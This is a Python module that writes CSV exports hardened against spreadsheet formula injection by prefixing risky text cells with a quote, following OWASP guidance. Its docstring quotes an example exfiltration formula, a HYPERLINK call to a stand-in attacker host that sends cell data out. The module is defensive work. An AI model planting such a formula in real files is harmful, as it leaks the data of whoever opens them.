"""CSV files of the export, safe to open in a spreadsheet.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and a
leading tab or carriage return can hide one; a value a customer typed (or an attacker typed in
their name) such as ``=HYPERLINK("http://evil.example?"&A1)`` would then run on the machine of
whoever opens the file. Following OWASP's "CSV Injection" guidance, every text cell that
starts with one of those characters is prefixed with a single quote, which spreadsheets show as
text. This applies to every text, including phone numbers in international form
(``+33612345678`` becomes ``'+33612345678``) and negative amounts written as text; numbers held
as numbers are written as they are, since the text of a number can never be a formula.

Files are UTF-8 with a byte order mark, so that spreadsheets guess the encoding right and
accents survive; rows end with CRLF as RFC 4180 says.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Sequence
from typing import Any

__all__ = ["DANGEROUS_PREFIXES", "csv_bytes", "safe_cell"]

#: First characters that make a spreadsheet evaluate a cell (OWASP, "CSV Injection").
DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

_JSON = json.JSONEncoder(ensure_ascii=False, separators=(",", ":"), sort_keys=False)


def safe_cell(value: Any) -> str:
    """The text of one cell, neutralised against formula injection.

    ``None`` is an empty cell, booleans are ``true``/``false`` as in JSON, lists and objects
    are one compact JSON cell.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return repr(value) if isinstance(value, float) else str(value)
    text = value if isinstance(value, str) else _JSON.encode(value)
    if text.startswith(DANGEROUS_PREFIXES):
        return "'" + text
    return text


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """A whole CSV file: the header row, then ``rows``, every cell through :func:`safe_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([safe_cell(h) for h in header])
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return buffer.getvalue().encode("utf-8-sig")
